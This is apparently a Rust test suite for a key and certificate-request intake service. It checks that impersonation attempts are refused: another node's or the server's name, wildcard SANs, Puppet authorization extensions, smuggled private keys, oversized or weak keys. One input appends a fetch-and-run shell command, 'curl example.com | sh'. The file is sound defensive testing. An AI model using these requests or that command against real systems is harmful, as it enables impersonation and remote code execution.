//! What somebody tries first who wants to be another node, the server, or an administrator: each made here, and each refused.

use x509_parser::prelude::{FromDer as _, X509Certificate};

use super::*;

/// A certificate of the node itself, for a key that would be a good one.
fn certificate() -> String {
    params(NODE).self_signed(rsa_pair()).unwrap().pem()
}

/// A text of 1 MiB.
const MIB: usize = 1 << 20;

fn asks(params: CertificateParams) -> String {
    request(&params)
}

fn keys() -> Vec<(&'static str, String, &'static str)> {
    let good = good_key();
    let strong = spki(&pkcs1(&modulus(2048), &[1, 0, 1]));
    let private = rsa_pair().serialize_pem();
    vec![
        ("RSA 1024", block("PUBLIC KEY", &spki(&pkcs1(&modulus(1024), &[1, 0, 1]))), "weak_key"),
        ("RSA 1024 as PKCS#1", block("RSA PUBLIC KEY", &pkcs1(&modulus(1024), &[1, 0, 1])), "weak_key"),
        ("RSA 512", block("PUBLIC KEY", &spki(&pkcs1(&modulus(512), &[1, 0, 1]))), "weak_key"),
        ("the exponent 1", block("PUBLIC KEY", &spki(&pkcs1(&modulus(2048), &[1]))), "weak_key"),
        ("a modulus that costs whoever verifies", block("PUBLIC KEY", &spki(&pkcs1(&modulus(32_768), &[1, 0, 1]))), "oversized_key"),
        ("a private key behind the public one", format!("{good}{private}"), "private_key"),
        ("a private key before the public one", format!("{private}{good}"), "private_key"),
        ("a private key under the public label", block("PUBLIC KEY", rsa_pair().serialized_der()), "private_key"),
        ("a private key without its label", base64(rsa_pair().serialized_der()), "private_key"),
        ("two blocks", format!("{good}{good}"), "not_one_block"),
        ("two blocks of two kinds", format!("{good}{}", block("RSA PUBLIC KEY", &pkcs1(&modulus(2048), &[3]))), "not_one_block"),
        ("DER in the place of PEM", String::from_utf8_lossy(&strong).into_owned(), "not_pem"),
        ("its base64 without armour", base64(&strong), "not_pem"),
        ("DER with something behind it", block("PUBLIC KEY", &[&strong[..], &[0]].concat()), "bad_der"),
        ("1 MiB of PEM", block("PUBLIC KEY", &vec![0x30; MIB]), "too_long"),
        ("1 MiB of good keys", good.repeat(MIB / good.len()), "too_long"),
        ("1 MiB of spaces and a good key", format!("{}{good}", " ".repeat(MIB)), "too_long"),
        ("an elliptic key", p256().public_key_pem(), "wrong_algorithm"),
        ("a certificate", certificate(), "wrong_label"),
        ("a certificate behind the public key", format!("{good}{}", certificate()), "not_one_block"),
        ("a certificate before the public key", format!("{}{good}", certificate()), "not_one_block"),
        ("a certificate under the public label", block("PUBLIC KEY", &pem::parse(certificate()).unwrap().into_contents()), "bad_der"),
        ("a public key that is called a certificate", good.replace("PUBLIC KEY", "CERTIFICATE"), "wrong_label"),
        ("an OpenSSH key", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC root@web".to_owned(), "not_pem"),
        ("a script behind it", format!("{good}; curl example.com | sh"), "not_pem"),
        ("a comment before it", format!("# web\n{good}"), "not_pem"),
        ("a NUL behind it", format!("{good}\0"), "not_pem"),
        ("a letter that looks like one of base64", good.replacen('A', "\u{0410}", 1), "not_pem"),
    ]
}

fn requests() -> Vec<(&'static str, String, &'static str)> {
    let honest = asks(params(NODE));
    let mut broken = pem::parse(&honest).unwrap().into_contents();
    let last = broken.len() - 2;
    broken[last] ^= 1;
    let cli_auth: &[u64] = &[1, 3, 6, 1, 4, 1, 34380, 1, 3, 39];
    let truth = || tlv(der::UTF8_STRING, b"true");
    vec![
        ("another node's name", asks(params("i-0a1b2c3d4e5f60719")), "wrong_name"),
        ("the server's name", asks(params("puppet")), "wrong_name"),
        ("a name that ends in a NUL", asks(params(&format!("{NODE}\0"))), "wrong_name"),
        ("SAN DNS:puppet", asks(with_names(&[dns("puppet")])), "forbidden_name"),
        ("SAN DNS:puppet behind its own", asks(with_names(&[dns(NODE), dns("puppet")])), "forbidden_name"),
        ("SAN DNS:*", asks(with_names(&[dns("*")])), "forbidden_name"),
        ("a SAN with an address", asks(with_names(&[SanType::IpAddress("10.0.0.1".parse().unwrap())])), "forbidden_name"),
        ("pp_cli_auth: true", asks(with_extension(cli_auth, truth())), "authorization_extension"),
        ("pp_auth_role", asks(with_extension(AUTH_ROLE, truth())), "authorization_extension"),
        ("pp_authorization", asks(with_extension(&AUTH_ROLE[..9], truth())), "authorization_extension"),
        ("an authority's constraints", asks(with_extension(&[2, 5, 29, 19], tlv(der::SEQUENCE, &[0x01, 1, 0xff]))), "forbidden_extension"),
        ("an extension that nobody allowed", asks(with_extension(INSTANCE_ID, truth())), "forbidden_extension"),
        ("a broken self-signature", block("CERTIFICATE REQUEST", &broken), "bad_signature"),
        ("two requests", format!("{honest}{honest}"), "not_one_block"),
        ("a private key behind it", format!("{honest}{}", p256().serialize_pem()), "private_key"),
        ("a public key", good_key(), "wrong_label"),
        ("a certificate", certificate(), "wrong_label"),
        ("a certificate behind it", format!("{honest}{}", certificate()), "not_one_block"),
        ("1 MiB of PEM", block("CERTIFICATE REQUEST", &vec![0x30; MIB]), "too_long"),
        ("DER in the place of PEM", base64(&pem::parse(&honest).unwrap().into_contents()), "not_pem"),
    ]
}

#[test]
fn what_somebody_tries_first_is_refused_with_a_reason_that_does_not_repeat_it() {
    let (keys, requests) = (keys(), requests());
    assert!(keys.len() + requests.len() >= 30);
    // What is called a certificate here is one, and would be taken for a good key by whoever reads the key out of it.
    let certificate = pem::parse(certificate()).unwrap().into_contents();
    let (rest, read) = X509Certificate::from_der(&certificate).unwrap();
    read.verify_signature(None).unwrap();
    assert!(rest.is_empty() && *read.public_key().raw == pem::parse(rsa_pair().public_key_pem()).unwrap().into_contents());
    for (name, value, code) in keys {
        assert_eq!(refused(&chef(&value)).0, code, "{name}");
        let said = format!("{:?}", chef(&value));
        assert!(said.len() < 300 && !said.contains("MII"), "{name}: {said}");
    }
    for (name, value, code) in requests {
        assert_eq!(refused(&puppet(&value)).0, code, "{name}");
        let said = format!("{:?}", puppet(&value));
        assert!(said.len() < 300 && !said.contains("MII"), "{name}: {said}");
    }
    found(chef(&good_key()));
    found(puppet(&asks(params(NODE))));
}
